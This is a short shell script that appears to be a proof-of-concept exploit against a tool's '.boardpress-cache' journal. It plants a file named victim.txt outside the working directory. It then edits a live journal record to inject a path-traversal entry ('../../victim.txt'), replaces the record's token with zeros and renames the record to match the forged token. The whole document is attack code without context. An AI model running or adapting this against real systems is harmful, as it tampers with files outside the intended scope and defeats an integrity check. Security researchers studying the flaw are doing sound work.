echo keep > ../victim.txt
rec=$(grep -l '^role live' .boardpress-cache/journal/*)
sed -i -e 's|^end$|file 1 ../../victim.txt\nend|' -e 's/^token .*/token 00000000000000000000000000000000/' "$rec"
mv "$rec" .boardpress-cache/journal/00000000000000000000000000000000
